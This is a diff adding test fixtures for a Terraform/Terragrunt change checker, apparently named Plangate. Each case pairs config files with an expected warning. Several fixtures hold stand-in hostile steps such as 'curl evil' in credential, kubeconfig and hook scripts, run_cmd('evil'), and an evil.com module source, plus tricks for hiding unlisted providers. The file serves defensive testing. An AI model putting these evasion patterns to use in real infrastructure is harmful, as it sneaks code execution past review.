@@ -1174,3 +1174,453 @@ terraform {
 # case: CDKTF
 # file: net/cdk.tf.json
 {"//": {"metadata": {"backend": "local", "version": "0.20.0"}, "outputs": {}}, "provider": {"aws": [{"region": "eu"}]}, "resource": {"aws_s3_bucket": {"a": {"//": {"metadata": {"path": "a"}}}}}, "terraform": {"backend": {"local": {"path": "/x/terraform.app.tfstate"}}, "required_providers": {"aws": {"source": "aws", "version": "5.0.0"}}}}
+
+# case: a module behind a link that calls another from where the link leads
+# says: provider `registry.terraform.io/evil/leak` is not on the list
+# file: net/main.tf
+module "l" {
+  source = "./link"
+}
+# file: net/link
+→ ../elsewhere/m
+# file: elsewhere/m/main.tf
+module "x" {
+  source = "../x"
+}
+# file: net/x/main.tf
+# nothing
+# file: elsewhere/x/main.tf
+terraform {
+  required_providers {
+    leak = { source = "evil/leak" }
+  }
+}
+
+# case: the same, where what the link leads to is sent in its place
+# says: provider `registry.terraform.io/evil/leak` is not on the list
+# file: net/main.tf
+module "l" {
+  source = "./link"
+}
+# file: net/link
+→ ../elsewhere/m
+# file: elsewhere/m/main.tf
+module "x" {
+  source = "../x"
+}
+# file: elsewhere/x/main.tf
+# nothing
+# file: net/x/main.tf
+terraform {
+  required_providers {
+    leak = { source = "evil/leak" }
+  }
+}
+
+# case: a module behind a link whose neighbor is there alone
+# file: net/main.tf
+module "l" {
+  source = "./link"
+}
+# file: net/link
+→ ../elsewhere/m
+# file: elsewhere/m/main.tf
+module "x" {
+  source = "../x"
+}
+# file: elsewhere/x/main.tf
+# nothing
+
+# case: a lock file that is emptied
+# says: provider `registry.terraform.io/hashicorp/aws` is in the lock file of the default branch, and is missing in this one
+# file: net/main.tf
+resource "aws_vpc" "a" {}
+# file: net/.terraform.lock.hcl
+# This file is maintained automatically by "terraform init".
+# file: base/net/.terraform.lock.hcl
+provider "registry.terraform.io/hashicorp/aws" {
+  version = "5.0.0"
+  hashes  = ["h1:a"]
+}
+
+# case: an entry that the lock file loses, of a provider that only a local module uses
+# says: provider `registry.terraform.io/hashicorp/null` is in the lock file of the default branch, and is missing in this one
+# file: net/main.tf
+module "m" {
+  source = "./m"
+}
+resource "aws_vpc" "a" {}
+# file: net/m/main.tf
+resource "null_resource" "a" {}
+# file: net/.terraform.lock.hcl
+provider "registry.terraform.io/hashicorp/aws" {
+  version = "5.0.0"
+  hashes  = ["h1:a"]
+}
+# file: base/net/.terraform.lock.hcl
+provider "registry.terraform.io/hashicorp/aws" {
+  version = "5.0.0"
+  hashes  = ["h1:a"]
+}
+provider "registry.terraform.io/hashicorp/null" {
+  version = "3.0.0"
+  hashes  = ["h1:b"]
+}
+
+# case: an entry that the lock file loses with the last use of its provider
+# file: net/main.tf
+resource "aws_vpc" "a" {}
+# file: net/.terraform.lock.hcl
+provider "registry.terraform.io/hashicorp/aws" {
+  version = "5.0.0"
+  hashes  = ["h1:a"]
+}
+# file: base/net/.terraform.lock.hcl
+provider "registry.terraform.io/hashicorp/aws" {
+  version = "5.0.0"
+  hashes  = ["h1:a"]
+}
+provider "registry.terraform.io/hashicorp/null" {
+  version = "3.0.0"
+  hashes  = ["h1:b"]
+}
+
+# case: a script that a file of the backend names
+# says: `backend s3`, which is not as the default branch has it, is not on the list
+# file: net/main.tf
+terraform {
+  backend "s3" {
+    bucket              = "x"
+    shared_config_files = ["aws.ini"]
+  }
+}
+# file: net/aws.ini
+[default]
+credential_process = sh -c './get-credentials.sh prod'
+# file: net/get-credentials.sh
+curl evil
+# file: base/net/main.tf
+terraform {
+  backend "s3" {
+    bucket              = "x"
+    shared_config_files = ["aws.ini"]
+  }
+}
+# file: base/net/aws.ini
+[default]
+credential_process = sh -c './get-credentials.sh prod'
+# file: base/net/get-credentials.sh
+vault read
+
+# case: a script beside the kubeconfig of the backend
+# says: `backend kubernetes`, which is not as the default branch has it, is not on the list
+# file: net/main.tf
+terraform {
+  backend "kubernetes" {
+    config_path = "../kube/config"
+  }
+}
+# file: kube/config
+users: [{user: {exec: {command: "./login"}}}]
+# file: kube/login
+curl evil
+# file: base/net/main.tf
+terraform {
+  backend "kubernetes" {
+    config_path = "../kube/config"
+  }
+}
+# file: base/kube/config
+users: [{user: {exec: {command: "./login"}}}]
+# file: base/kube/login
+vault read
+
+# case: what Terragrunt includes from JSON
+# says: `root.hcl` is not. Merge its change by itself
+# file: net/main.tf
+# nothing
+# file: net/terragrunt.hcl.json
+{"include": {"root": {"path": "${find_in_parent_folders(\"root.hcl\")}"}}}
+# file: root.hcl
+inputs = { x = run_cmd("evil") }
+# file: base/net/terragrunt.hcl.json
+{"include": {"root": {"path": "${find_in_parent_folders(\"root.hcl\")}"}}}
+# file: base/root.hcl
+# nothing
+# file: list.json
+{"also": ["terragrunt net/terragrunt.hcl.json"]}
+
+# case: what Terragrunt reads by an expression of JSON
+# says: it is not certain which files it reads
+# file: net/main.tf
+# nothing
+# file: net/terragrunt.hcl.json
+{"include": {"root": {"path": "${get_env(\"X\")}"}}}
+# file: base/net/terragrunt.hcl.json
+{"include": {"root": {"path": "${get_env(\"X\")}"}}}
+# file: list.json
+{"also": ["terragrunt net/terragrunt.hcl.json"]}
+
+# case: a program of a hook of Terragrunt, in the words of a shell
+# says: `scripts/hook.sh` is not. Merge its change by itself
+# file: net/main.tf
+# nothing
+# file: net/terragrunt.hcl
+terraform {
+  before_hook "x" {
+    commands = ["plan"]
+    execute  = ["sh", "-c", "cd .. && ./scripts/hook.sh prod; true"]
+  }
+}
+# file: scripts/hook.sh
+curl evil
+# file: base/net/terragrunt.hcl
+terraform {
+  before_hook "x" {
+    commands = ["plan"]
+    execute  = ["sh", "-c", "cd .. && ./scripts/hook.sh prod; true"]
+  }
+}
+# file: base/scripts/hook.sh
+true
+# file: list.json
+{"also": ["terragrunt net/terragrunt.hcl"]}
+
+# case: a script of a hook of Terragrunt without an ending
+# says: `net/hook` is not. Merge its change by itself
+# file: net/main.tf
+# nothing
+# file: net/terragrunt.hcl
+terraform {
+  before_hook "x" {
+    commands = ["plan"]
+    execute  = ["sh", "hook"]
+  }
+}
+# file: net/hook
+curl evil
+# file: base/net/terragrunt.hcl
+terraform {
+  before_hook "x" {
+    commands = ["plan"]
+    execute  = ["sh", "hook"]
+  }
+}
+# file: base/net/hook
+true
+# file: list.json
+{"also": ["terragrunt net/terragrunt.hcl"]}
+
+# case: a stack of Terragrunt
+# says: `terragrunt net/terragrunt.stack.hcl` is not on the list
+# file: net/main.tf
+# nothing
+# file: net/terragrunt.stack.hcl
+unit "a" {
+  source = "git::https://evil.com/x.git"
+  path   = "a"
+}
+
+# case: a provider that JSON names in a list
+# says: provider `registry.terraform.io/evil/leak` is not on the list
+# file: net/main.tf.json
+{"terraform": [{"required_providers": [{"leak": {"source": "\u0065vil/leak"}}]}]}
+
+# case: an ephemeral resource in JSON
+# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
+# file: net/main.tf.json
+{"ephemeral": {"leak_token": {"a": {}}}}
+# file: list.json
+{"providers": ["hashicorp/aws"]}
+
+# case: an action in JSON
+# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
+# file: net/main.tf.json
+{"action": [{"leak_call": [{"a": {}}]}]}
+# file: list.json
+{"providers": ["hashicorp/aws"]}
+
+# case: a data source of a check in JSON
+# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
+# file: net/main.tf.json
+{"check": {"a": [{"data": [{"leak_thing": {"b": {}}}]}]}}
+# file: list.json
+{"providers": ["hashicorp/aws"]}
+
+# case: an import in JSON
+# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
+# file: net/main.tf.json
+{"import": [{"to": "leak_thing.a", "id": "1"}]}
+# file: list.json
+{"providers": ["hashicorp/aws"]}
+
+# case: the provider of an import in JSON
+# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
+# file: net/main.tf.json
+{"import": {"to": "aws_vpc.a", "id": "1", "provider": "leak.west"}, "resource": {"aws_vpc": {"a": {}}}}
+# file: list.json
+{"providers": ["hashicorp/aws"]}
+
+# case: a provider that JSON hands to a module
+# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
+# file: net/main.tf.json
+{"module": {"m": {"source": "./m", "providers": {"aws": "leak.west"}}}}
+# file: net/m/main.tf
+# nothing
+# file: list.json
+{"providers": ["hashicorp/aws"]}
+
+# case: a provider of a query in JSON
+# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
+# file: net/main.tf
+# nothing
+# file: net/a.tfquery.json
+{"list": {"leak_thing": {"a": {"provider": "leak"}}}}
+# file: list.json
+{"providers": ["hashicorp/aws"]}
+
+# case: a provider of a query
+# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
+# file: net/main.tf
+# nothing
+# file: net/a.tfquery.hcl
+list "leak_thing" "a" {
+  provider = leak
+}
+# file: list.json
+{"providers": ["hashicorp/aws"]}
+
+# case: a provider of a test in JSON
+# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
+# file: net/main.tf
+# nothing
+# file: net/tests/a.tftest.json
+{"provider": {"leak": [{}, {"alias": "b"}]}}
+# file: list.json
+{"providers": ["hashicorp/aws"]}
+
+# case: a module of a test whose source is computed
+# says: The source of this module is not written as one plain text
+# file: net/main.tf
+# nothing
+# file: net/tests/a.tftest.hcl
+run "a" {
+  module {
+    source = "${"evil"}/x/aws"
+  }
+}
+
+# case: a backend of a run of a test
+# says: The block `backend` is not one that Plangate knows in a run of a test
+# file: net/main.tf
+# nothing
+# file: net/tests/a.tftest.hcl
+run "a" {
+  backend "s3" {}
+}
+
+# case: a state that the backend names in a list of JSON
+# says: `x.json` is the state of the backend `local`
+# file: net/main.tf.json
+{"terraform": [{"backend": [{"local": {"path": "x.json"}}]}]}
+# file: net/x.json
+{}
+
+# case: a state that an override of OpenTofu names
+# says: `x.json` is the state of the backend `local`
+# file: net/main.tf
+# nothing
+# file: net/x_override.tofu
+terraform {
+  backend "local" {
+    path = "x.json"
+  }
+}
+# file: net/x.json
+{}
+
+# case: a key provider in a local module
+# says: `key_provider external` is not on the list
+# file: net/main.tf
+module "m" {
+  source = "./m"
+}
+# file: net/m/main.tf
+terraform {
+  encryption {
+    key_provider "external" "k" {
+      command = ["curl"]
+    }
+  }
+}
+
+# case: a provisioner of an ephemeral resource of a local module
+# says: `provisioner remote-exec` is not on the list
+# file: net/main.tf
+module "m" {
+  source = "./m"
+}
+# file: net/m/main.tf
+resource "terraform_data" "a" {
+  provisioner "remote-exec" {}
+}
+
+# case: a provisioner whose name only differs in case
+# says: `provisioner Local-Exec` is not on the list
+# file: net/main.tf
+resource "terraform_data" "a" {
+  provisioner "Local-Exec" {}
+}
+
+# case: a module of which a part of the path is a link out of the repository
+# says: There is no configuration in
+# file: net/main.tf
+module "m" {
+  source = "./out/m"
+}
+# file: net/out
+→ /elsewhere
+
+# case: a path with backslashes
+# says: provider `registry.terraform.io/evil/leak` is not on the list
+# file: net/main.tf
+module "m" {
+  source = ".\\m"
+}
+# file: net/m/main.tf
+terraform {
+  required_providers {
+    leak = { source = "evil/leak" }
+  }
+}
+
+# case: a provider that is null
+# says: The provider is not written as one plain text
+# file: net/main.tf
+resource "aws_vpc" "a" {
+  provider = null
+}
+
+# case: a namespace of nobody
+# says: The source of provider "aws" is no address of a provider
+# file: net/main.tf
+terraform {
+  required_providers {
+    aws = { source = "registry.terraform.io//aws" }
+  }
+}
+
+# case: a local name that JSON has twice
+# says: provider `registry.terraform.io/evil/leak` is not on the list
+# file: net/main.tf.json
+{"terraform": {"required_providers": {"aws": {"source": "evil/leak"}, "aws": {"source": "hashicorp/aws"}}}}
+
+# case: a provider with a capital letter in its local name
+# says: provider `registry.terraform.io/evil/leak` is not on the list
+# file: net/main.tf
+terraform {
+  required_providers {
+    AWS = { source = "evil/leak" }
+  }
+}
+resource "aws_vpc" "a" {}
